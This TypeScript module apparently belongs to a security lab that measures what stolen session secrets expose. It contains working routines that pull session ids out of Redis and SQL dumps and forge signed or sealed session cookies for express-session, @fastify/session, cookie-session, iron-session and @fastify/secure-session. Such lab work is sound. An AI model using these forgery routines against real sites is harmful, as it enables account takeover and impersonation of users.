import { createHmac, randomBytes } from 'node:crypto'
import type { Loot, Thief } from '../site.ts'
import { load, loadBeside } from './packages.ts'
import { keyOf } from './peer.ts'
import { rowsOfDumps } from './redis.ts'

/** What a thief of one site knows: it is public, or in the source that was stolen with the secrets. */
export interface Known {
  readonly cookieName: string
}

/** 24 random bytes as base64url: ids of express-session and of @fastify/session. */
const ID = /[\w-]{32,}/g
/** What a stored session begins with. The id is before it in every store; in a dump of SQL, the quotes are escaped. */
const BEGIN = /\{\\?"cookie\\?":\{/g
/** In bytes: more than what a store has between the id and the session. */
const BETWEEN = 160

/** The sessions lie there as JSON. Their ids need the signature, so they sign nobody in without the secret. */
export function serverThief({ cookieName }: Known, prefix: string): Thief {
  return async (loot) => {
    const rows = [...loot.rows, ...(await rowsOfDumps(loot.files))]
    const ids = new Set([...rows.map(({ key }) => key), ...loot.files.flatMap(idsIn)].map(bare))
    const cookies = loot.secrets.flatMap((secret) =>
      [...ids].map((id) => `${cookieName}=${encodeURIComponent(`${prefix}${id}.${signature(id, secret)}`)}`),
    )
    const texts = [...rows.map(({ value }) => value), ...loot.files.flatMap(sessionsIn)]
    return { texts: texts.map((bytes) => ({ name: 'a session, as JSON', bytes })), cookies }
  }
}

/** In bytes: more than a session of the lab has. */
const SESSION = 4096

/** The sessions of a file. A dump of SQL escapes what JSON has escaped already. */
function sessionsIn({ bytes }: Loot['files'][number]): Uint8Array[] {
  const text = Buffer.from(bytes).toString('latin1')
  return [...text.matchAll(BEGIN)].map(({ index }) =>
    Buffer.from(text.slice(index, index + SESSION).replaceAll('\\', ''), 'latin1'),
  )
}

/** Without what a store puts around an id: "sess:" in Redis, ".json" in a folder. */
const bare = (key: string) => key.replace(/^sess:/, '').replace(/\.json$/, '')

function idsIn({ name, bytes }: Loot['files'][number]): string[] {
  const named = /([\w-]{32})\.json$/.exec(name)?.[1]
  const text = Buffer.from(bytes).toString('latin1')
  const before = [...text.matchAll(BEGIN)].map(({ index }) => text.slice(Math.max(0, index - BETWEEN), index))
  return [...(named ? [named] : []), ...before.flatMap((part) => windowsOf(part, ID))]
}

/** In a file of a database, the byte beside an id may look like a part of it, so every place is tried. */
export function windowsOf(text: string, runs: RegExp): string[] {
  return [...text.matchAll(runs)].flatMap(([run]) =>
    Array.from({ length: Math.min(run.length - 31, 64) }, (_, start) => run.slice(start, start + 32)),
  )
}

/** As the packages cookie-signature and @fastify/cookie sign. */
const signature = (value: string, secret: string) =>
  createHmac('sha256', secret).update(value).digest('base64').replace(/=+$/, '')

/** There is nothing to read without a cookie. With the secret, a thief needs none: anybody's session can be made. */
export function cookieSessionThief({ cookieName }: Known): Thief {
  return async ({ secrets }) => {
    const value = Buffer.from(JSON.stringify({ user: 'ada' })).toString('base64')
    // As the package keygrip signs.
    const sign = (secret: string) => createHmac('sha1', secret).update(`${cookieName}=${value}`).digest('base64url')
    return { texts: [], cookies: secrets.map((secret) => `${cookieName}=${value}; ${cookieName}.sig=${sign(secret)}`) }
  }
}

export function ironThief({ cookieName }: Known): Thief {
  return async ({ secrets }) => {
    const { sealData } = load('iron-session') as {
      sealData(data: object, options: { password: string }): Promise<string>
    }
    const seals = await Promise.all(secrets.map((password) => sealData({ user: 'ada' }, { password })))
    return { texts: [], cookies: seals.map((seal) => `${cookieName}=${seal}`) }
  }
}

interface Sodium {
  readonly crypto_secretbox_MACBYTES: number
  readonly crypto_secretbox_NONCEBYTES: number
  crypto_secretbox_easy(cipher: Uint8Array, message: Uint8Array, nonce: Uint8Array, key: Uint8Array): void
}

export function secureSessionThief({ cookieName }: Known): Thief {
  return async ({ secrets }) => {
    const sodium = loadBeside('@fastify/secure-session', 'sodium-native') as Sodium
    const message = Buffer.from(JSON.stringify({ user: 'ada', __ts: Math.round(Date.now() / 1000) }))
    const cookies = secrets.map((secret) => {
      const cipher = Buffer.alloc(message.length + sodium.crypto_secretbox_MACBYTES)
      const nonce = randomBytes(sodium.crypto_secretbox_NONCEBYTES)
      sodium.crypto_secretbox_easy(cipher, message, nonce, keyOf(secret))
      return `${cookieName}=${encodeURIComponent(`${cipher.toString('base64')};${nonce.toString('base64')}`)}`
    })
    return { texts: [], cookies }
  }
}
